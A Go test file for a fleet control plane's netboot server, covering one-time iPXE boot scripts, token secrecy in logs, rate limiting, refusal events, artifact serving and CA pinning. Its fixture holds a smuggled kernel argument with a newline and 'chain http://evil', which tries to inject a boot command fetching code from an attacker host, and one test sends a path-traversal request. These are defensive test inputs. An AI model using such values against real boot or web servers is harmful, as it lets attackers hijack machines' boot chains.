package netboot_test

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	dto "github.com/prometheus/client_model/go"

	"github.com/tetherfleet/tether/controlplane/daemon/wire"
	"github.com/tetherfleet/tether/controlplane/events"
	"github.com/tetherfleet/tether/controlplane/instances"
	"github.com/tetherfleet/tether/controlplane/lifecycle"
	"github.com/tetherfleet/tether/controlplane/modules"
	"github.com/tetherfleet/tether/controlplane/netboot"
	"github.com/tetherfleet/tether/controlplane/store"
	"github.com/tetherfleet/tether/controlplane/store/sqlite"
	"github.com/tetherfleet/tether/controlplane/throttle"
	"github.com/tetherfleet/tether/internal/clock"
	"github.com/tetherfleet/tether/internal/testkit/logbuf"
	"github.com/tetherfleet/tether/pki"
	"github.com/tetherfleet/tether/pki/ca"
	"github.com/tetherfleet/tether/providers"
	"github.com/tetherfleet/tether/providers/external"
)

type lockedBuffer = logbuf.Buffer

// pxe is the external provider as if its machines netbooted: nothing
// netboots by instance id today, and the script route serves only
// instances whose provider does.
type pxe struct{ providers.Provider }

func (pxe) Name() string   { return "pxe" }
func (pxe) Netboots() bool { return true }

type fixture struct {
	ctx    context.Context
	st     store.Store
	svc    *instances.Service
	srv    *httptest.Server
	logs   *lockedBuffer
	clk    *clock.Fake
	nb     *netboot.Server
	module string // a module's digest: a blob that is not a boot artifact
}

var t0 = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)

func setup(t testing.TB) *fixture {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	dir := t.TempDir()
	st, err := sqlite.Open(ctx, filepath.Join(dir, "t.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	blobs, err := modules.OpenBlobs(filepath.Join(dir, "blobs"))
	if err != nil {
		t.Fatal(err)
	}
	ingest := func(s string) string {
		d, _, err := blobs.Ingest(strings.NewReader(s), false)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	clk := clock.NewFake(t0)
	logs := &lockedBuffer{}
	log := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	authority, err := ca.Create(filepath.Join(dir, "ca"), "netboot-test", clk)
	if err != nil {
		t.Fatal(err)
	}
	svcs, err := wire.NewServices(wire.Deps{Store: st, Clock: clk, Log: log,
		Machines: map[string]providers.Provider{external.Name: external.New(), "pxe": pxe{external.New()}},
		CA:       authority, Blobs: blobs, AgentURL: "https://10.0.2.2:7443",
		Kernel: ingest("kernel bytes"), Initramfs: ingest("initramfs bytes"), NetbootURL: "http://10.0.2.2:8080"})
	if err != nil {
		t.Fatal(err)
	}
	svc := svcs.Instances
	tpl := &store.Template{Name: "tpl", KernelArgs: "quiet\nchain http://evil", CreatedAt: t0, UpdatedAt: t0}
	if err := st.CreateTemplate(ctx, tpl); err != nil {
		t.Fatal(err)
	}
	node := &store.Node{Name: "n", TemplateID: tpl.ID, Enabled: true, Config: []byte("{}"), CreatedAt: t0, UpdatedAt: t0}
	if err := st.CreateNode(ctx, node); err != nil {
		t.Fatal(err)
	}
	nb := &netboot.Server{Store: st, Clock: clk, Log: log, Instances: svc}
	srv := httptest.NewServer(nb.Handler())
	t.Cleanup(srv.Close)
	return &fixture{ctx: ctx, st: st, svc: svc, srv: srv, logs: logs, clk: clk, nb: nb, module: ingest("an erofs module, say")}
}

func (f *fixture) get(t *testing.T, path string) (int, string) {
	t.Helper()
	resp, err := http.Get(f.srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (f *fixture) provision(t testing.TB) *store.Instance {
	t.Helper()
	return f.provisionWith(t, "pxe")
}

func (f *fixture) provisionWith(t testing.TB, provider string) *store.Instance {
	t.Helper()
	res, err := f.svc.Provision(f.ctx, instances.ProvisionParams{Node: "n", Provider: provider})
	if err != nil {
		t.Fatal(err)
	}
	if provider == external.Name {
		return res.Instance
	}
	// No worker runs here: do what the provision operation would, and
	// move the instance into its boot window.
	var in *store.Instance
	if err := f.st.Tx(f.ctx, func(q store.Queries) error {
		if in, err = q.LockInstance(f.ctx, res.Instance.ID); err != nil {
			return err
		}
		return f.svc.TransitionTx(f.ctx, q, in, lifecycle.MarkProvisioning, "test: machine created", t0)
	}); err != nil {
		t.Fatal(err)
	}
	return in
}

func TestScriptIsServedOncePerBoot(t *testing.T) {
	f := setup(t)
	in := f.provision(t)
	code, body := f.get(t, netboot.ScriptPath(in.ID.String()))
	if code != http.StatusOK || !strings.HasPrefix(body, "#!ipxe\n") {
		t.Fatalf("%d %q", code, body)
	}
	for _, want := range []string{
		"kernel http://10.0.2.2:8080/artifacts/" + f.svc.Artifacts.Kernel + " initrd=initramfs console=ttyS0 quiet chain http://evil",
		"tether.url=https://10.0.2.2:7443", "tether.ca=" + f.svc.CAFingerprint,
		"initrd --name initramfs http://10.0.2.2:8080/artifacts/" + f.svc.Artifacts.Initramfs, "\nboot\n",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("script lacks %q:\n%s", want, body)
		}
	}
	if n := strings.Count(body, "\n"); n != 4 {
		t.Fatalf("a template argument broke the script into %d lines:\n%s", n, body)
	}
	i := strings.Index(body, "tether.token=")
	token := strings.Fields(body[i+len("tether.token="):])[0]
	if tok, err := f.st.GetToken(f.ctx, pki.HashToken(token)); err != nil || tok.InstanceID != in.ID || tok.UsedAt != nil {
		t.Fatalf("served token: %+v %v", tok, err)
	}

	// A second fetch in the same boot is refused and leaves a trail.
	code, body = f.get(t, netboot.ScriptPath(in.ID.String()))
	if code != http.StatusGone || strings.Contains(body, "tbt_") {
		t.Fatalf("second fetch: %d %q", code, body)
	}
	evs, _ := f.st.ListEvents(f.ctx, store.EventFilter{InstanceID: in.ID, Kind: events.NetbootRefused}, store.Page{Limit: 10})
	if len(evs) != 1 {
		t.Fatalf("%d refusal events", len(evs))
	}
	if logs := f.logs.String(); strings.Contains(logs, token) || strings.Contains(logs, "tbt_") {
		t.Fatalf("a token reached the log:\n%s", logs)
	}

	// The next boot (a transition) gets a fresh script once more.
	if err := f.svc.AgentReady(f.ctx, in.ID); err != nil {
		t.Fatal(err)
	}
	if code, _ := f.get(t, netboot.ScriptPath(in.ID.String())); code != http.StatusConflict {
		t.Fatalf("a running instance's script: %d", code)
	}
	cur, _ := f.st.GetInstance(f.ctx, in.ID)
	if err := f.st.Tx(f.ctx, func(q store.Queries) error {
		cur.Status = lifecycle.Running
		return f.svc.TransitionTx(f.ctx, q, cur, lifecycle.Reboot, "test", t0)
	}); err != nil {
		t.Fatal(err)
	}
	code, body = f.get(t, netboot.ScriptPath(in.ID.String()))
	if code != http.StatusOK || strings.Contains(body, token) {
		t.Fatalf("next boot: %d, same token reused: %v", code, strings.Contains(body, token))
	}
	if logs := f.logs.String(); strings.Contains(logs, "tbt_") {
		t.Fatalf("a token reached the log:\n%s", logs)
	}
}

func TestScriptRefusals(t *testing.T) {
	f := setup(t)
	for _, tc := range []struct {
		path string
		code int
	}{
		{netboot.ScriptPath("no-such-instance"), http.StatusNotFound},
		{"/ipxe/..%2f..%2fetc", http.StatusBadRequest},
		{"/ipxe/" + strings.Repeat("a", 65), http.StatusBadRequest},
	} {
		if code, _ := f.get(t, tc.path); code != tc.code {
			t.Errorf("%s: %d, want %d", tc.path, code, tc.code)
		}
	}
	in := f.provision(t)
	if _, err := f.svc.Terminate(f.ctx, in.ID); err != nil {
		t.Fatal(err)
	}
	if code, _ := f.get(t, netboot.ScriptPath(in.ID.String())); code != http.StatusConflict {
		t.Fatalf("a terminated instance's script: %d", code)
	}
}

func TestArtifacts(t *testing.T) {
	f := setup(t)
	code, body := f.get(t, "/artifacts/"+f.svc.Artifacts.Kernel)
	if code != http.StatusOK || body != "kernel bytes" {
		t.Fatalf("kernel: %d %q", code, body)
	}
	// Modules are for enrolled agents over mTLS, never served here.
	if code, _ := f.get(t, "/artifacts/"+f.module); code != http.StatusNotFound {
		t.Fatalf("a module blob was served: %d", code)
	}
	if code, _ := f.get(t, "/artifacts/sha256:nothex"); code != http.StatusBadRequest {
		t.Fatalf("bad digest: %d", code)
	}
	// A template's own kernel is an artifact too.
	tpl, _ := f.st.GetTemplate(f.ctx, "tpl")
	tpl.KernelDigest = f.module
	if err := f.st.UpdateTemplate(f.ctx, tpl); err != nil {
		t.Fatal(err)
	}
	if code, _ := f.get(t, "/artifacts/"+f.module); code != http.StatusOK {
		t.Fatalf("a template's kernel: %d", code)
	}
}

// Only an instance whose provider netboots gets a script: an external
// machine is booted by its operator, and a script (a fresh token) served
// for it would only ever reach someone else.
func TestScriptOnlyForNetbootingProviders(t *testing.T) {
	f := setup(t)
	in := f.provisionWith(t, external.Name)
	code, body := f.get(t, netboot.ScriptPath(in.ID.String()))
	if code != http.StatusForbidden || !strings.Contains(body, "external provider") || strings.Contains(body, "tbt_") {
		t.Fatalf("an external instance's script: %d %q", code, body)
	}
	if evs, _ := f.st.ListEvents(f.ctx, store.EventFilter{InstanceID: in.ID, Kind: events.NetbootServed}, store.Page{Limit: 10}); len(evs) != 0 {
		t.Fatalf("served events: %v", evs)
	}
	if evs, _ := f.st.ListEvents(f.ctx, store.EventFilter{InstanceID: in.ID, Kind: events.NetbootRefused}, store.Page{Limit: 10}); len(evs) != 1 {
		t.Fatalf("%d refusal events, want 1", len(evs))
	}
}

// Script requests are limited per source address; what is refused for
// its rate is answered 429 before any work and counted.
func TestScriptRateLimit(t *testing.T) {
	f := setup(t)
	limited := prometheus.NewCounter(prometheus.CounterOpts{Name: "limited"})
	f.nb.Limiter, f.nb.RateLimited = throttle.NewLimiter(f.clk, 1, 3, 0), limited
	in := f.provision(t)
	got := map[int]int{}
	for range 10 {
		code, _ := f.get(t, netboot.ScriptPath(in.ID.String()))
		got[code]++
	}
	if got[http.StatusOK] != 1 || got[http.StatusGone] != 2 || got[http.StatusTooManyRequests] != 7 {
		t.Fatalf("answers: %v", got)
	}
	var m dto.Metric
	if err := limited.Write(&m); err != nil {
		t.Fatal(err)
	}
	if n := m.GetCounter().GetValue(); n != 7 {
		t.Fatalf("rate-limited counter %v, want 7", n)
	}
	f.clk.Advance(2 * time.Second) // two tokens back
	if code, _ := f.get(t, netboot.ScriptPath(in.ID.String())); code != http.StatusGone {
		t.Fatalf("after the refill: %d", code)
	}
}

// A flood of refused fetches writes one event per window and source, and
// one summary with the count when the window ends; retention trims them.
func TestRefusedFetchesAreCoalesced(t *testing.T) {
	f := setup(t)
	in := f.provision(t)
	if code, _ := f.get(t, netboot.ScriptPath(in.ID.String())); code != http.StatusOK {
		t.Fatal(code)
	}
	for range 500 {
		if code, _ := f.get(t, netboot.ScriptPath(in.ID.String())); code != http.StatusGone {
			t.Fatal(code)
		}
	}
	refusals := func() []*store.Event {
		evs, err := f.st.ListEvents(f.ctx, store.EventFilter{InstanceID: in.ID, Kind: events.NetbootRefused}, store.Page{Limit: 100})
		if err != nil {
			t.Fatal(err)
		}
		return evs
	}
	if n := len(refusals()); n != 1 {
		t.Fatalf("%d events for 500 refusals in one window", n)
	}
	f.nb.FlushRefusals(f.ctx, false)
	if n := len(refusals()); n != 1 {
		t.Fatalf("a flush inside the window wrote a summary: %d events", n)
	}
	f.clk.Advance(netboot.RefusalWindow)
	f.nb.FlushRefusals(f.ctx, false)
	evs := refusals()
	if len(evs) != 2 || !strings.Contains(string(evs[0].Payload), `"count":499`) {
		t.Fatalf("after the window: %d events, newest %+v", len(evs), evs[0])
	}
	now := f.clk.Now()
	if _, err := f.st.PruneEvents(f.ctx, now.Add(time.Minute), now.Add(time.Minute), 0); err != nil {
		t.Fatal(err)
	}
	if n := len(refusals()); n != 0 {
		t.Fatalf("%d events survived retention", n)
	}
}

// fingerprint is a CA whose fingerprint a rotation's activate changes.
type fingerprint struct{ fp atomic.Value }

func (f *fingerprint) Fingerprint() string { return f.fp.Load().(string) }

// After a CA rotation's activate, the next script pins the new CA
// (design §3.10): the fingerprint is read at each hand-off.
func TestScriptCarriesTheActiveCA(t *testing.T) {
	f := setup(t)
	ca := &fingerprint{}
	ca.fp.Store("sha256:" + strings.Repeat("01", 32))
	f.svc.CA = ca
	in := f.provision(t)
	if _, body := f.get(t, netboot.ScriptPath(in.ID.String())); !strings.Contains(body, "tether.ca=sha256:"+strings.Repeat("01", 32)) {
		t.Fatalf("script before the rotation:\n%s", body)
	}
	ca.fp.Store("sha256:" + strings.Repeat("02", 32))
	next := f.provision(t)
	if _, body := f.get(t, netboot.ScriptPath(next.ID.String())); !strings.Contains(body, "tether.ca=sha256:"+strings.Repeat("02", 32)) {
		t.Fatalf("script after activate:\n%s", body)
	}
}
